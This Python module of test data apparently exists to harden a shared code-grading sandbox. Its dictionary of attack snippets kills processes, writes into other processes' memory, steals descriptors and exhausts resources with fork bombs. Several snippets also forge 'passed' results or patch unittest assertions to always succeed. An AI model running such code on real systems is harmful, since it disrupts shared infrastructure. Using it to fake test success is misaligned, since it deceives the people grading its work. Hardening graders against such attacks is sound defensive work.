"""Tests that attack from inside of a test runner, graded in sandboxes shared with other submissions."""

from __future__ import annotations

PRELUDE = """
import ctypes, os, resource, select, signal, socket, struct, sys, threading, time

ME, ROOT = os.getpid(), os.getppid()
PIDS = [int(name) for name in os.listdir("/proc") if name.isdigit()]
OTHERS = sorted({pid for pid in PIDS if pid != ME} | {ROOT})
DESCRIPTORS = [int(name) for name in os.listdir("/proc/self/fd")]

def attempt(function, *arguments, **keywords):
    try:
        return function(*arguments, **keywords)
    except Exception:
        return None

def daemon(work):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            try:
                for signal_number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
                    signal.signal(signal_number, signal.SIG_IGN)
                work()
            finally:
                os._exit(0)
        os._exit(0)
    os.wait()

def frame(body):
    return struct.pack("<I", len(body)) + body

PASSED = __import__("msgspec").msgpack.encode({
    "type": "TestsRun", "is_loaded": True, "is_lost": False, "cases": [{"name": "0", "outcome": "passed"}],
})
"""
"""Code that the attacks have in common; it runs in the process of the tests."""

ATTACKS = {
    "kills everything": """
for number in (signal.SIGTERM, signal.SIGUSR1, signal.SIGCHLD, signal.SIGSTOP, signal.SIGKILL):
    attempt(os.kill, -1, number)
    for pid in OTHERS:
        attempt(os.kill, pid, number)
        attempt(os.killpg, pid, number)
""",
    "kills its group": "os.kill(0, signal.SIGKILL)",
    "writes into other processes": """
libc = ctypes.CDLL(None, use_errno=True)
for pid in OTHERS:
    libc.ptrace(16, pid, None, None)
    libc.ptrace(0x4206, pid, None, None)
    buffer = ctypes.create_string_buffer(8)
    libc.syscall(311, pid, buffer, 1, buffer, 1, 0)
    for name in ("mem", "oom_score_adj", "coredump_filter", "comm", "clear_refs", "autogroup", "timerslack_ns", "setgroups"):
        file = attempt(os.open, f"/proc/{pid}/{name}", os.O_WRONLY)
        if file is not None:
            attempt(os.write, file, b"1000")
    attempt(resource.prlimit, pid, resource.RLIMIT_NOFILE, (0, 0))
    attempt(resource.prlimit, pid, resource.RLIMIT_CPU, (1, 1))
    attempt(os.setpriority, os.PRIO_PROCESS, pid, 19)
    attempt(os.sched_setaffinity, pid, {0})
    attempt(os.sched_setscheduler, pid, os.SCHED_IDLE, os.sched_param(0))
""",
    "steals descriptors": """
libc = ctypes.CDLL(None, use_errno=True)
for pid in OTHERS:
    handle = attempt(os.pidfd_open, pid)
    for number in range(32):
        stolen = libc.syscall(438, handle, number, 0) if handle is not None else -1
        if stolen >= 0:
            attempt(os.write, stolen, frame(PASSED) * 9)
        opened = attempt(os.open, f"/proc/{pid}/fd/{number}", os.O_RDWR | os.O_NONBLOCK)
        if opened is not None:
            attempt(os.write, opened, frame(PASSED) * 9)
""",
    "writes to its descriptors": """
for number in DESCRIPTORS:
    attempt(os.set_blocking, number, False)
    for data in (b"\\0" * 9, frame(b"\\x81\\xa4type\\xa8EndTests"), frame(b"\\x82\\xa4type\\xabTestsEnded\\xa7failure\\xa0")):
        attempt(os.write, number, data)
""",
    "closes its descriptors": "os.closerange(0, 4096)",
    "reports garbage": """
for number in DESCRIPTORS:
    attempt(os.write, number, frame(b"\\xff" * 100))
""",
    "reports too much": """
for number in DESCRIPTORS:
    attempt(os.write, number, struct.pack("<I", 0xFFFFFFFF))
    for _ in range(64):
        attempt(os.set_blocking, number, False)
        attempt(os.write, number, bytes(1 << 20))
""",
    "reports a million cases": """
body = __import__("msgspec").msgpack.encode({
    "type": "TestsRun", "is_loaded": True, "is_lost": False,
    "cases": [{"name": "", "outcome": "passed"}] * 300_000,
})
for number in DESCRIPTORS:
    attempt(os.set_blocking, number, True)
    if number > 2:
        attempt(socket.socket(fileno=os.dup(number)).sendall, frame(body))
""",
    "reports often": """
for number in DESCRIPTORS:
    attempt(os.write, number, frame(PASSED) * 1000)
""",
    "reports with descriptors": """
for number in DESCRIPTORS:
    for _ in range(64):
        attempt(lambda: socket.send_fds(socket.socket(fileno=os.dup(number)), [b"x"], [0] * 200, socket.MSG_DONTWAIT))
""",
    "reports and stays": """
def stay():
    for number in DESCRIPTORS:
        attempt(os.write, number, frame(PASSED))
    while True:
        time.sleep(0.01)
        attempt(os.kill, -1, signal.SIGKILL)
daemon(stay)
threading.Thread(target=stay, daemon=False).start()
""",
    "leaves daemons": """
def spoil():
    while True:
        for directory in (".", os.environ["TMPDIR"]):
            for name in ("in.txt", "out.txt", "math.py", "left"):
                attempt(lambda: open(f"{directory}/{name}", "w").write("spoilt"))
        time.sleep(0.001)
for _ in range(3):
    daemon(spoil)
""",
    "leaves modules": """
for directory in (".", os.environ["TMPDIR"], os.environ["HOME"], *sys.path):
    for name in ("math", "unittest", "sitecustomize", "usercustomize", "solution", "numpy"):
        attempt(lambda: open(f"{directory}/{name}.py", "w").write("import os; os._exit(0)"))
""",
    "replaces directories": """
for directory in (os.environ["TMPDIR"], os.environ["HOME"]):
    attempt(os.rename, directory, directory + "-gone")
    attempt(os.rmdir, directory)
    attempt(os.symlink, "/etc", directory)
    attempt(os.chmod, directory, 0)
    attempt(os.setxattr, directory, "user.left", b"left")
os.makedirs("deep/" + "/".join("d" * 50), exist_ok=True)
attempt(os.chmod, "deep", 0)
""",
    "patches modules": """
import builtins, math, random, unittest
math.isclose = unittest.TestCase.assertEqual = unittest.TestCase.assertTrue = lambda *_, **__: True
builtins.all = builtins.any = lambda _: True
for name, module in list(sys.modules.items()):
    if name.startswith("coding_gym_server"):
        for key, value in list(vars(module).items()):
            if callable(value) and getattr(value, "__module__", "") == name:
                attempt(setattr, module, key, lambda *_, **__: None)
""",
    "writes shared memory": """
for line in open("/proc/self/maps"):
    addresses, permissions, _, _, inode, *path = line.split()
    if permissions[1:4:2] == "ws":
        start, end = (int(address, 16) for address in addresses.split("-"))
        ctypes.memset(start, 0xFF, end - start)
""",
    "exits": "os._exit(0)",
    "crashes": "ctypes.string_at(1)",
    "stops itself": "os.kill(ME, signal.SIGSTOP)",
    "never ends": "threading.Thread(target=lambda: [time.sleep(1) for _ in range(99)]).start()\nwhile True: time.sleep(1)",
    "uses up descriptors": """
kept = []
def use():
    while True:
        kept.append(socket.socketpair())
attempt(use)
for left, right in kept:
    attempt(socket.send_fds, left, [b"x"], [end.fileno() for pair in kept[:100] for end in pair])
time.sleep(0.3)
""",
    "uses up watches and timers": """
libc = ctypes.CDLL(None, use_errno=True)
timer = ctypes.c_int()
for _ in range(20_000):
    if libc.timer_create(1, None, ctypes.byref(timer)):
        break
signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGRTMIN})
polls = [select.epoll() for _ in range(300)]
events = [os.eventfd(0) for _ in range(300)]
for poll in polls:
    for event in events:
        attempt(poll.register, event)
pipes = [os.pipe() for _ in range(200)]
for _, end in pipes:
    attempt(__import__("fcntl").fcntl, end, 1031, 1 << 20)
time.sleep(0.3)
""",
    "uses up memory": "kept = []\nwhile True: kept.append(bytearray(32 << 20))",
    "uses up the disk": """
for directory in (".", os.environ["TMPDIR"]):
    for number in range(40):
        attempt(lambda: open(f"{directory}/{number}", "wb").write(bytes(4 << 20)))
""",
    "uses up processes": """
end = time.monotonic() + 1
while time.monotonic() < end:
    try:
        if os.fork() == 0:
            time.sleep(60)
            os._exit(0)
    except OSError:
        time.sleep(0.01)
""",
    "uses up processors": """
for _ in range(8):
    if os.fork() == 0:
        while True: pass
time.sleep(0.5)
""",
    "locks system files": """
import fcntl
for path in ("/etc/passwd", "/usr", sys.executable, os.__file__, "/dev/null", "/dev/urandom"):
    attempt(lambda: fcntl.flock(os.open(path, os.O_RDONLY), fcntl.LOCK_EX))
time.sleep(0.3)
""",
    "listens": """
for name in ("\\0coding-gym", "./socket", os.environ["TMPDIR"] + "/socket"):
    attempt(lambda: socket.socket(socket.AF_UNIX).bind(name))
for line in open("/proc/net/unix"):
    path = line.split()[-1]
    attempt(lambda: socket.socket(socket.AF_UNIX).connect(path.replace("@", "\\0")))
""",
}
"""Code that runs instead of the setup of tests, by what it does."""
